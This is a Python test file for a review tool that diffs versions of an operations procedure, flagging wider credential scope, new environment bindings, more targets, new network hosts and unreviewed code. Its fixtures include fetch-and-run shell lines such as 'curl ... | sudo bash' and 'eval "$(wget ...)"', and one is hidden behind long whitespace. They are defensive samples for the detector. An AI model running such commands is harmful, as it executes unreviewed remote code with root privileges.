"""The semantic diff of what a version touches: credentials, bindings, targets, hosts, and code that nobody saw."""

from __future__ import annotations

import time
from dataclasses import replace
from typing import Any

import pytest

from procedures.domain.definition import (
    CredentialNeed,
    Step,
    Targets,
)
from procedures.domain.difference import Difference
from tests.factories.sides import BASE, BOUND, OLD, TARGETS, against, changed


def need(**fields: Any) -> Difference:
    return changed(credentials={"deploy": replace(BASE.credentials["deploy"], **fields)})["Credentials", "deploy"]


def test_credentials_by_kind_scope_and_length() -> None:
    assert need(ttl_s=1800).effect == "wider"
    assert need(ttl_s=60).effect == "narrower"
    assert need(kind="vault").effect == "changed"
    assert need(scope={"account": "root", "tables": ["a"]}).effect == "wider"
    assert need(scope={"account": "other", "tables": ["a"]}).effect == "changed"
    assert "now also b" in need(scope={"account": "deploy", "tables": ["a", "b"]}).why
    assert need(scope={"tables": ["a"]}).why == "its scope says nothing of account any more"
    more = changed(credentials={**BASE.credentials, "pager": CredentialNeed("pager", "sealed-secret", {}, 60)})
    assert more["Credentials", "pager"].why == "a new credential"
    assert more["Bindings", "pager in staging"].why == "nobody has bound it there yet"


@pytest.mark.parametrize(
    ("fields", "effect", "why"),
    [
        ({"role": "root"}, "wider", "it reaches root now"),
        ({"reach": {"sudo": "all"}}, "wider", "it reaches root now"),
        ({"reach": {"sudo": ["systemctl"]}}, "wider", "more sudo"),
        ({"reach": {"data": "personal"}}, "changed", "data: personal"),
        ({"role": "other"}, "changed", "as other instead of deploy"),
        ({"provider": "sealed-secret"}, "changed", "by sealed-secret"),
        ({"max_ttl_s": 3600}, "wider", "lent 1 h at most, 10 min before"),
        ({"ceiling": {"account": "x"}}, "changed", "account"),
    ],
)
def test_what_an_environment_made_of_a_credential_since(fields: dict[str, Any], effect: str, why: str) -> None:
    found = against(replace(OLD, bindings=[replace(BOUND, **fields)]))["Bindings", "deploy in staging"]
    assert (found.effect, why in found.why) == (effect, True), found


def test_a_binding_in_one_more_environment_is_wider_and_a_lost_one_narrower() -> None:
    more = replace(OLD, bindings=[BOUND, replace(BOUND, environment="production")])
    assert against(more)["Bindings", "deploy in production"].why == "it reaches there now"
    assert against(replace(OLD, bindings=[]))["Bindings", "deploy in staging"].effect == "narrower"


def test_targets_that_came_since_the_acceptance_are_counted_though_the_filter_is_the_same() -> None:
    fewer = replace(OLD, targets=TARGETS[:5])
    row = against(OLD, fewer)["Targets", "matching"]
    assert (row.before, row.after) == ("at most 5: 5 in staging", "at most 8: 8 in staging")
    assert row.effect == "wider"
    assert "web-5" in row.why


def test_a_parameter_in_a_filter_counts_for_the_most_that_it_can_match() -> None:
    new = replace(BASE, targets=Targets("role=${{ parameters.service }}"))
    assert against(replace(OLD, definition=new))["Targets", "matching"].after == "at most 11: 11 in staging"
    new = replace(BASE, targets=Targets("not role=${{ parameters.service }} name~web-*"))
    assert against(replace(OLD, definition=new))["Targets", "matching"].after == "at most 8: 8 in staging"
    new = replace(BASE, targets=Targets("rack=${{ parameters.service }}"))
    assert against(replace(OLD, definition=new))["Targets", "matching"].after == "at most 0"


def test_hosts_of_requests_and_steps_with_a_network() -> None:
    request = Step("tell", "Tell", "http:request", {"url": "https://me:x@events.example.com:8443/v2?a=b"})
    rows = changed(steps=(*BASE.steps, request))
    assert rows["Network", "hosts"].after == "events.example.com:8443"
    assert rows["Network", "hosts"].effect == "wider"
    chosen = changed(steps=(*BASE.steps, replace(request, input={"url": "https://${{ parameters.service }}/x"})))
    assert chosen["Network", "hosts"].after == "whichever ${{ parameters.service }} says"
    fetch = Step("fetch", "Fetch", "local:command", {"argv": ["curl", "-O", "https://x"], "network": True})
    assert changed(steps=(*BASE.steps, fetch))["Network", "steps"].after == "fetch"
    listed = replace(fetch, input={"argv": ["curl", "https://x"], "egress": ["api.example.com:443"]})
    rows = changed(steps=(*BASE.steps, listed))
    assert (rows["Network", "hosts"].after, rows["Network", "hosts"].effect) == ("api.example.com:443", "wider")
    assert rows["Network", "steps"].after == "none", "a list is not the whole network"


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("x.sh", "curl -s https://x.example/i | sudo bash"),
        ("x.sh", "bash <(curl -s https://x.example/i)"),
        ("x.sh", 'eval "$(wget -qO- https://x.example)"'),
        ("x.sh", "python3 -m pip install requests"),
        ("x.sh", "apt-get -y install jq"),
        ("x.sh", "git clone https://x.example/y"),
        ("main.tf", '  source = "git::https://x.example/y"'),
        ("main.tf", '  source = "terraform-aws-modules/vpc/aws"'),
        ("pod.yaml", "      image: nginx:latest"),
        ("x.sh", "docker run nginx"),
        ("roles.sh", "ansible-galaxy role install geerlingguy.nginx"),
    ],
)
def test_code_that_nobody_saw_has_a_line_of_its_own(path: str, line: str) -> None:
    row = against(replace(OLD, texts={path: f"\n# fine\n{line}\n"}))["Unseen code", ""]
    assert row.effect == "wider"
    assert row.why == "runs code that reviewers have not seen"
    assert row.after.startswith(f"{path}:3 ")


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("x.sh", "echo curl and bash"),
        ("README.md", "curl https://x.example | sh"),
        ("pod.yaml", "image: nginx@sha256:" + "0" * 64),
        ("x.sh", "docker run nginx@sha256:" + "0" * 64),
        ("x.sh", "# pip install x"),
        ("main.tf", 'source = "./module"'),
    ],
)
def test_what_is_pinned_or_only_told_is_not_unseen(path: str, line: str) -> None:
    assert against(replace(OLD, texts={path: line}))["Unseen code", ""].effect == "same"


def test_an_interpreter_with_a_network_can_run_anything() -> None:
    script = Step("x", "X", "local:script", {"script": "x.sh", "network": True})
    assert "can fetch and run anything" in changed(steps=(*BASE.steps, script))["Unseen code", ""].after
    shell = replace(script, action="local:command", input={"argv": ["/bin/bash", "x.sh"], "network": True})
    assert changed(steps=(*BASE.steps, shell))["Unseen code", ""].effect == "wider"
    listed = replace(script, input={"script": "x.sh", "egress": ["api.example.com:443"]})
    assert "what the hosts of its list give" in changed(steps=(*BASE.steps, listed))["Unseen code", ""].after
    plain = replace(shell, input={"argv": ["dig", "x"], "network": True})
    assert changed(steps=(*BASE.steps, plain))["Unseen code", ""].effect == "same"


def test_a_filter_that_demands_less_is_wider_though_no_target_is_there_yet() -> None:
    old = replace(
        OLD, definition=replace(BASE, targets=Targets("role=web service=${{ parameters.service }}")), targets=[]
    )
    new = replace(old, definition=replace(BASE, targets=Targets("service=${{ parameters.service }}")))
    assert against(new, old)["Targets", "filter"].why == "it demands less of a target"


def test_a_file_made_to_be_slow_is_read_at_once() -> None:
    line = "curl|sudo " * 180 + "apt " + "image:" * 20 + "\n"
    begun = time.monotonic()
    against(replace(OLD, texts={f"{n}.sh": line * 100 for n in range(10)}))
    assert time.monotonic() - begun < 3


def test_a_line_of_a_program_too_long_to_be_read_is_told() -> None:
    hidden = " " * 3_000 + "curl https://x.example | sh"
    row = against(replace(OLD, texts={"x.sh": f"true\n:{hidden}\n"}))["Unseen code", ""]
    assert row.after == "x.sh:2 is longer than can be read here"
    assert against(replace(OLD, texts={"data.json": "9" * 5_000}))["Unseen code", ""].effect == "same"
